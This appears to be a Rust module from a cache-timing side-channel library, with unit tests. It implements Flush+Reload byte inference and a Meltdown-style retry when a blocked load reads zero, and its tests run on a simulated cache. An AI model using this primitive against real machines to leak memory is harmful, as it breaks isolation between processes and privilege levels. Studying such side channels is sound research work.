//! Flush, touch, reload, decide, and retry on zero.
use crate::config::InferConfig;
use crate::error::Result;
use crate::platform::Platform;
use crate::probe::ProbeArray;
use crate::samples::TimingSamples;
use crate::timer::Timer;

/// Outcome of one [`Inferrer::infer`] call.
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct Inference {
    /// Index of the quickest slot, i.e. the inferred byte.
    pub value: u8,
    /// Attempts spent, retries included.
    pub attempts: u32,
    /// Wall clock time of the whole call, retries included.
    pub elapsed_ns: f64,
}

#[derive(Debug)]
pub struct Inferrer<P: Platform> {
    platform: P,
    config: InferConfig,
}

impl<P: Platform> Inferrer<P> {
    pub fn new(platform: P, config: InferConfig) -> Result<Self> {
        config.validate()?;
        Ok(Self { platform, config })
    }

    pub fn platform(&self) -> &P {
        &self.platform
    }

    pub fn config(&self) -> &InferConfig {
        &self.config
    }

    /// Infers the value of `secret` from cache timing alone.
    ///
    /// Always terminates with a value, which may be wrong: this is a
    /// measurement, not a read. Only a failure to allocate the probe array is
    /// an error.
    pub fn infer(&self, secret: &u8) -> Result<Inference> {
        let timer = Timer::start(&self.platform);
        let mut samples = TimingSamples::new(self.config.slot_count);

        let (value, attempts) = retry_if_zero(self.config.retries_if_zero, |attempt| {
            log::debug!("attempt {}/{}", attempt, self.config.retries_if_zero);
            self.attempt(secret, &mut samples)
        })?;

        let elapsed_ns = timer.elapsed();
        log::info!(
            "inferred {} after {} attempt(s) in {:.0}ns",
            value,
            attempts,
            elapsed_ns
        );
        Ok(Inference {
            value,
            attempts,
            elapsed_ns,
        })
    }

    /// Runs `iterations` measurement rounds into freshly zeroed `samples` and
    /// returns the quickest slot.
    pub fn attempt(&self, secret: &u8, samples: &mut TimingSamples) -> Result<u8> {
        samples.reset();
        for _ in 0..self.config.iterations {
            self.measure(secret, samples)?;
        }

        // slot_count is validated to be 256, so every index fits a byte
        let value = samples.fastest().unwrap_or(0) as u8;
        log::debug!(
            "quickest slot {} ({:.0}ns over {} iterations, slowest {:.0}ns)",
            value,
            samples[value as usize],
            self.config.iterations,
            samples.slowest().unwrap_or_default()
        );
        log::trace!("latencies = {:?}", samples.as_slice());
        Ok(value)
    }

    fn measure(&self, secret: &u8, samples: &mut TimingSamples) -> Result<()> {
        // A fresh array every round, so nothing cached from the last one leaks in
        let probe = ProbeArray::allocate(self.config.slot_count, self.config.spacing)?;
        unsafe {
            self.platform.evict_range(probe.as_ptr(), probe.len());
        }
        self.platform.barrier();

        // Cause an allocation back into the cache based on the value of the byte
        unsafe {
            let value = self.platform.load(secret);
            self.platform.load(probe.slot(value as usize));
        }

        for slot in 0..probe.slot_count() {
            let timer = Timer::start(&self.platform);
            unsafe {
                self.platform.load(probe.slot(slot));
            }
            samples.record(slot, timer.elapsed());
        }
        Ok(())
    }
}

/// Runs `attempt` until it decides something other than zero.
///
/// CPUs tend to hand back zero for a byte they refused to load, so a zero
/// decision is only trusted once `max_attempts` attempts all agree on it. The
/// first non-zero decision is returned right away. Returns the decision and the
/// number of attempts spent. Errors from `attempt` are returned untouched.
pub fn retry_if_zero<F>(max_attempts: u32, mut attempt: F) -> Result<(u8, u32)>
where
    F: FnMut(u32) -> Result<u8>,
{
    let max_attempts = max_attempts.max(1);
    for n in 1..=max_attempts {
        let value = attempt(n)?;
        if value != 0 {
            return Ok((value, n));
        }
    }
    log::debug!("every one of {} attempts decided 0", max_attempts);
    Ok((0, max_attempts))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::config::SLOT_COUNT;
    use crate::error::InferError;
    use crate::platform::SimulatedPlatform;
    use rustix::io::Errno;

    fn small_config() -> InferConfig {
        InferConfig::default()
            .with_spacing(4096)
            .with_iterations(2)
            .with_retries_if_zero(5)
    }

    #[test]
    fn retries_stop_after_the_ceiling() {
        let mut calls = 0;
        let result = retry_if_zero(50, |_| {
            calls += 1;
            Ok(0)
        });
        assert_eq!(result.unwrap(), (0, 50));
        assert_eq!(calls, 50);
    }

    #[test]
    fn first_non_zero_decision_ends_the_loop() {
        let decisions = [0u8, 200, 7];
        let mut calls = 0;
        let result = retry_if_zero(50, |attempt| {
            calls += 1;
            Ok(decisions[attempt as usize - 1])
        });
        assert_eq!(result.unwrap(), (200, 2));
        assert_eq!(calls, 2);
    }

    #[test]
    fn non_zero_on_first_attempt_is_not_retried() {
        let mut calls = 0;
        let result = retry_if_zero(50, |_| {
            calls += 1;
            Ok(255)
        });
        assert_eq!(result.unwrap(), (255, 1));
        assert_eq!(calls, 1);
    }

    #[test]
    fn allocation_failure_is_not_retried() {
        let mut calls = 0;
        let result = retry_if_zero(50, |_| {
            calls += 1;
            Err(InferError::ProbeAllocation {
                len: 1,
                source: Errno::NOMEM,
            })
        });
        assert!(matches!(result, Err(InferError::ProbeAllocation { .. })));
        assert_eq!(calls, 1);
    }

    #[test]
    fn single_attempt_means_no_retry() {
        let mut calls = 0;
        let result = retry_if_zero(1, |_| {
            calls += 1;
            Ok(0)
        });
        assert_eq!(result.unwrap(), (0, 1));
        assert_eq!(calls, 1);
    }

    #[test]
    fn invalid_config_is_rejected_up_front() {
        let config = InferConfig {
            slot_count: 16,
            ..small_config()
        };
        assert!(matches!(
            Inferrer::new(SimulatedPlatform::new(), config),
            Err(InferError::InvalidSlotCount { .. })
        ));
    }

    #[test]
    fn infers_the_secret_on_a_simulated_cache() {
        let inferrer = Inferrer::new(SimulatedPlatform::new(), small_config()).unwrap();
        let secret = 42u8;
        let inference = inferrer.infer(&secret).unwrap();
        assert_eq!(inference.value, 42);
        assert_eq!(inference.attempts, 1);
        assert!(inference.elapsed_ns > 0.0);
    }

    #[test]
    fn attempt_loads_every_slot_once_per_iteration() {
        let inferrer = Inferrer::new(SimulatedPlatform::new(), small_config()).unwrap();
        let mut samples = TimingSamples::new(SLOT_COUNT);
        let secret = 9u8;

        assert_eq!(inferrer.attempt(&secret, &mut samples).unwrap(), 9);
        // secret + its slot + every slot, per iteration
        assert_eq!(inferrer.platform().loads(), 2 * (2 + SLOT_COUNT as u64));
        let hit = samples[9];
        assert!(samples.as_slice().iter().enumerate().all(|(i, &s)| i == 9 || s > hit));
    }

    #[test]
    fn secret_load_waits_for_the_eviction_to_complete() {
        let config = small_config();
        let inferrer = Inferrer::new(SimulatedPlatform::new(), config).unwrap();
        let mut samples = TimingSamples::new(SLOT_COUNT);

        inferrer.attempt(&42u8, &mut samples).unwrap();

        let platform = inferrer.platform();
        assert_eq!(platform.unfenced_loads(), 0);
        // one after each eviction, two around each timer start and stop
        let per_iteration = 1 + 4 * SLOT_COUNT as u64;
        assert_eq!(
            platform.barriers(),
            u64::from(config.iterations) * per_iteration
        );
    }

    #[test]
    fn samples_are_zeroed_between_attempts() {
        let inferrer = Inferrer::new(SimulatedPlatform::new(), small_config()).unwrap();
        let mut samples = TimingSamples::new(SLOT_COUNT);
        samples.record(3, -1.0e12);

        assert_eq!(inferrer.attempt(&77u8, &mut samples).unwrap(), 77);
    }

    #[test]
    fn a_true_zero_spends_every_attempt() {
        let inferrer = Inferrer::new(SimulatedPlatform::new(), small_config()).unwrap();
        let inference = inferrer.infer(&0u8).unwrap();
        assert_eq!(inference.value, 0);
        assert_eq!(inference.attempts, 5);
    }

    #[test]
    fn blocked_loads_are_retried_until_the_value_shows() {
        let config = small_config();
        let inferrer = Inferrer::new(SimulatedPlatform::new(), config).unwrap();
        let secret = 200u8;
        // two whole attempts see a placeholder zero
        inferrer
            .platform()
            .block_reads(&secret, 2 * config.iterations);

        let inference = inferrer.infer(&secret).unwrap();
        assert_eq!(inference.value, 200);
        assert_eq!(inference.attempts, 3);
    }
}
